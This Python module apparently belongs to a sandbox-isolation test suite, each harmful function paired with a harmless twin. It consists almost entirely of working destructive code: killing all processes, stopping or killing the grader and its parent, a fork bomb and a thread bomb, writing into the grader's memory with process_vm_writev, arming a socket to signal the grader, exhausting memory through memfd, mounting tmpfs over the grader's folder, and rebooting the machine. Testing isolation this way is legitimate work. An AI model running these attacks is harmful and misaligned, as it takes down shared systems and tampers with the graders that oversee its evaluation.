"""Attacks that would do harm, as a student's module; tried only where a harmless twin failed."""

import ctypes
import fcntl
import mmap
import os
import signal
import stat
import threading

libc = ctypes.CDLL(None, use_errno=True)

# Each with its twin in the other modules: the same system call, of no effect.
TWINS = {
    "kill_everybody": "signal-everybody",  # whatever else runs on this machine
    "stop_the_grader": "signal-the-grader",  # it could not even say so
    "kill_the_zygote": "signal-the-zygote",  # and with it all other sessions
    "fork_without_end": "fork",
    "start_threads_without_end": "start-a-thread",
    "overwrite_the_grader": "write-the-graders-memory",
    "have_the_socket_kill": "signal-by-the-socket",  # the grader, at the next message
    "fill_memory_of_no_process": "open-doors",
    "mount_over_everything": "open-doors",
    "restart_the_machine": "open-doors",
}


def kill_everybody(t):
    """that may be killed"""
    return os.kill(-1, signal.SIGKILL) is None


def stop_the_grader(t):
    """for ever"""
    return os.kill(t["host"], signal.SIGSTOP) is None


def kill_the_zygote(t):
    """or whoever is above"""
    return os.kill(os.getppid(), signal.SIGKILL) is None


def fork_without_end(t):
    """processes that do the same"""
    started = 0
    while started < 10_000:
        os.fork()
        started += 1
    return started


def start_threads_without_end(t):
    """that hold the interpreter"""
    for _ in range(10_000):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()
    return True


def overwrite_the_grader(t):
    """where its code may lie"""
    word = ctypes.create_string_buffer(b"\xcc" * 4096)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(word), 4096)
    there = (ctypes.c_size_t * 2)(id(len) & ~0xFFF, 4096)
    written = libc.process_vm_writev(t["host"], here, 1, there, 1, 0)
    if written < 0:
        raise OSError(ctypes.get_errno(), "process_vm_writev")
    return written


def have_the_socket_kill(t):
    """the grader, by a signal when an answer arrives"""
    for number in range(3, 99):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                fcntl.fcntl(number, fcntl.F_SETOWN, t["host"])
                fcntl.fcntl(number, fcntl.F_SETFL, os.O_ASYNC)
                return True
        except OSError as error:
            refused = error
    raise refused


def fill_memory_of_no_process(t):
    """which no limit of this one counts"""
    kept = [os.memfd_create("x") for _ in range(40)]
    for fd in kept:
        os.ftruncate(fd, 1 << 30)
        mmap.mmap(fd, 1 << 28).write(bytes(1 << 28))
    return len(kept)


def mount_over_everything(t):
    """an empty world for the grader"""
    if libc.mount(b"none", t["folder"].encode(), b"tmpfs", 0, None) < 0:
        raise OSError(ctypes.get_errno(), "mount")
    return True


def restart_the_machine(t):
    """as the one who may"""
    if libc.reboot(0x89ABCDEF) < 0:  # what Ctrl-Alt-Delete does from now on, no more
        raise OSError(ctypes.get_errno(), "reboot")
    return True
